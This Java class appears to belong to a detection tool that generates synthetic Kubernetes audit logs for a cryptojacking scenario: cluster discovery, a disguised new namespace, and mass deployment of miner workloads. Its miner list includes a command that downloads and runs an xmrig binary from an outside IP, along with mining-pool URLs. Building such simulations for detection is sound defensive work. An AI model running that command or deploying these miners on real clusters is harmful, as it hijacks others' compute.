package io.chainwatch.generate;

import io.chainwatch.generate.ClusterProfile.Node;

import static io.chainwatch.generate.Obj.arr;
import static io.chainwatch.generate.Obj.of;
import static io.chainwatch.generate.TrafficModel.S;

/**
 * Cloud credential, cluster-wide discovery, new namespace, mass deployment (S25; Microsoft's threat matrix
 * "Using cloud credentials" MS-TA9001; Storm-1977 deployed hundreds of mining containers): a principal with a
 * freshly obtained cluster credential (on EKS an IAM role session, on AKS an Entra user) calls the discovery
 * endpoints, lists namespaces, nodes and pods across the cluster, creates a namespace with an ordinary-looking
 * name and applies a directory of 12-30 miner Deployments (or bare pods) into it ({@code kubectl apply -f}:
 * a get that answers 404, then the create, for each). The deployment controller creates each Deployment's
 * ReplicaSet and the replicaset controller its pods. Evidence: the first cluster-wide list, the namespace
 * create, the first ten workload creates.
 */
final class MassDeploymentScenario implements Scenario {
    static final String[] NAMESPACES = {"kube-metrics", "monitoring-agents", "system-update", "cache-workers",
            "batch-jobs", "data-sync"};
    static final String[] WORDS = {"worker", "agent", "sync", "compute", "node", "task"};
    static final String[][] MINERS = {
            {"docker.io/xmrig/xmrig:6.22.2", "--url=stratum+tcp://pool.supportxmr.com:3333"},
            {"docker.io/metal3d/xmrig:latest", "--donate-level=1"},
            {"docker.io/library/ubuntu:22.04", "curl -s http://45.9.148.35/xmrig.tar.gz | tar xz && ./xmrig -o stratum+ssl://gulf.moneroocean.stream:20128"},
            {"ghcr.io/cloudcompute-tools/worker:v2", "--coin=monero -o stratum+tcp://xmr.2miners.com:2222"}};

    @Override
    public String name() {
        return "mass-deployment";
    }

    @Override
    public String patternId() {
        return "discovery-new-namespace-mass-deployment";
    }

    @Override
    public String description() {
        return "cluster-wide discovery, a new namespace, then 12-30 miner workloads applied into it by the same principal";
    }

    @Override
    public void inject(ScenarioContext c, long t) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        Identity me = c.attacker("cluster-admins", ClusterProfile.rbacReason("ClusterRoleBinding", "cluster-admins",
                "ClusterRole", "cluster-admin", "Group", p.groupName("cluster-admins")));
        long at = t;
        c.submit(c.sim.nonResource(r, me, at, "/api?timeout=32s"));
        c.submit(c.sim.nonResource(r, me, at + r.range(5_000, 40_000), "/apis?timeout=32s"));
        at += r.range(300_000, 3 * S);
        // discovery: the first list is the pattern's first step
        Res[] order = r.chance(0.6) ? new Res[] {Res.NAMESPACES, Res.NODES, Res.PODS}
                : r.chance(0.5) ? new Res[] {Res.NODES, Res.NAMESPACES, Res.PODS} : new Res[] {Res.PODS, Res.NODES, Res.NAMESPACES};
        for (int i = 0; i < order.length; i++) {
            if (i == 2 && r.chance(0.4)) {
                break;
            }
            Request list = c.request(me, at, "list", order[i], null, null, null).uri("?limit=500");
            if (i == 0) {
                c.evidence(list);
            } else {
                c.submit(list);
            }
            at += r.range(3 * S, 60 * S);
        }
        // the namespace
        String base = r.pick(NAMESPACES);
        String ns = c.state.claim("namespace/" + base) ? base : base + "-" + r.suffix(4);
        Obj nsMeta = of("name", ns, "creationTimestamp", null);
        Obj nsReq = of("kind", "Namespace", "apiVersion", "v1", "metadata", nsMeta, "spec", of(), "status", of());
        c.evidence(c.request(me, at, "create", Res.NAMESPACES, null, ns, null)
                .uri("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
                .bodies(nsReq, of("kind", "Namespace", "apiVersion", "v1",
                        "metadata", nsMeta.with("uid", r.uuid(), "resourceVersion", c.state.nextResourceVersion(),
                                "creationTimestamp", Times.rfc3339Seconds(at),
                                "labels", of("kubernetes.io/metadata.name", ns)),
                        "spec", of("finalizers", arr("kubernetes")), "status", of("phase", "Active"))));
        at += r.range(2 * S, 30 * S);

        // kubectl apply -f <dir>: for each manifest a get (404), then the create
        int n = r.between(12, 30);
        boolean pods = r.chance(0.25);
        String[] miner = r.pick(MINERS);
        String word = r.pick(WORDS);
        for (int i = 0; i < n; i++) {
            String name = word + "-" + (i + 1);
            Res res = pods ? Res.PODS : Res.DEPLOYMENTS;
            Request get = c.request(me, at, "get", res, ns, name, null).code(404);
            get.failureReason = "NotFound";
            get.failureMessage = res.resource + " \"" + name + "\" not found";
            c.submit(get);
            at += r.range(5_000, 60_000);
            Obj container = of("name", word, "image", miner[0],
                    "resources", of("requests", of("cpu", "1", "memory", "512Mi"), "limits", of("cpu", "2")));
            if (miner[1].contains(" ")) {
                container.put("command", arr("sh", "-c", miner[1]));
            } else {
                container.put("args", arr(miner[1], "--threads=" + r.between(2, 8)));
            }
            Obj podSpec = of("containers", arr(container), "tolerations", arr(of("operator", "Exists")));
            String uid = r.uuid();
            Obj labels = of("app", name);
            Obj meta = of("name", name, "namespace", ns, "creationTimestamp", null, "labels", labels,
                    "annotations", of("kubectl.kubernetes.io/last-applied-configuration",
                            "{\"apiVersion\":\"" + (pods ? "v1" : "apps/v1") + "\",\"kind\":\"" + (pods ? "Pod" : "Deployment")
                                    + "\",\"metadata\":{\"annotations\":{},\"name\":\"" + name + "\",\"namespace\":\"" + ns + "\"}}\n"));
            Request create;
            if (pods) {
                create = c.request(me, at, "create", Res.PODS, ns, name, null)
                        .bodies(of("kind", "Pod", "apiVersion", "v1", "metadata", meta, "spec", podSpec, "status", of()),
                                of("kind", "Pod", "apiVersion", "v1", "metadata", meta.with("uid", uid,
                                        "resourceVersion", c.state.nextResourceVersion(), "creationTimestamp", Times.rfc3339Seconds(at)),
                                        "spec", Workloads.defaulted(podSpec, null), "status", of("phase", "Pending", "qosClass", "Burstable")))
                        .annotate("pod-security.kubernetes.io/enforce-policy", "privileged:latest");
            } else {
                int replicas = r.between(1, 3);
                Obj spec = of("replicas", replicas, "selector", of("matchLabels", labels),
                        "template", of("metadata", of("creationTimestamp", null, "labels", labels), "spec", podSpec));
                create = c.request(me, at, "create", Res.DEPLOYMENTS, ns, name, null)
                        .bodies(of("kind", "Deployment", "apiVersion", "apps/v1", "metadata", meta, "spec", spec, "status", of()),
                                of("kind", "Deployment", "apiVersion", "apps/v1", "metadata", meta.with("uid", uid,
                                        "resourceVersion", c.state.nextResourceVersion(), "generation", 1,
                                        "creationTimestamp", Times.rfc3339Seconds(at)), "spec", spec, "status", of()));
            }
            create.uri("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
            if (i < 10) {
                c.evidence(create);
            } else {
                c.submit(create);
            }
            if (pods) {
                Node node = r.pick(p.nodes);
                ControllerChains.run(c, at, node, ns, name, uid, word, node.nextPodIP(), false);
            } else {
                rollout(c, at, ns, name, uid, labels, podSpec, word);
            }
            at += r.range(150_000, 2 * S);
        }
        if (r.chance(0.6)) {
            at += r.range(20 * S, 180 * S);
            c.submit(c.request(me, at, "list", Res.PODS, ns, null, null).uri("?limit=500"));
        }
    }

    /** The deployment controller's ReplicaSet, one pod of it by the replicaset controller, bound and started. */
    private static void rollout(ScenarioContext c, long at, String ns, String name, String uid, Obj labels, Obj podSpec,
                                String container) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        String hash = r.suffix(9 + r.nextInt(2));
        String rs = name + "-" + hash;
        String rsUid = r.uuid();
        long rsAt = at + r.range(20_000, 300_000);
        Obj rsLabels = labels.with("pod-template-hash", hash);
        Obj rsMeta = of("name", rs, "namespace", ns, "labels", rsLabels,
                "ownerReferences", arr(ControllerChains.ownerRef("apps/v1", "Deployment", name, uid)));
        Obj rsObj = of("kind", "ReplicaSet", "apiVersion", "apps/v1", "metadata", rsMeta,
                "spec", of("replicas", 1, "selector", of("matchLabels", rsLabels),
                        "template", of("metadata", of("labels", rsLabels), "spec", podSpec)));
        c.submit(c.request(p.deploymentController, rsAt, "create", Res.REPLICASETS, ns, rs, null)
                .bodies(rsObj, rsObj.with("metadata", rsMeta.with("uid", rsUid, "resourceVersion",
                        c.state.nextResourceVersion(), "creationTimestamp", Times.rfc3339Seconds(rsAt)))));
        long podAt = rsAt + r.range(5_000, 40_000);
        Node node = r.pick(p.nodes);
        String pod = rs + "-" + r.suffix(5);
        String podUid = r.uuid();
        c.submit(ControllerChains.ownedPod(c, p.replicaSetController, podAt, ns, rs + "-", pod, podUid, rsLabels,
                ControllerChains.ownerRef("apps/v1", "ReplicaSet", rs, rsUid), podSpec, "Burstable"));
        ControllerChains.run(c, podAt, node, ns, pod, podUid, container, node.nextPodIP(), false);
    }
}
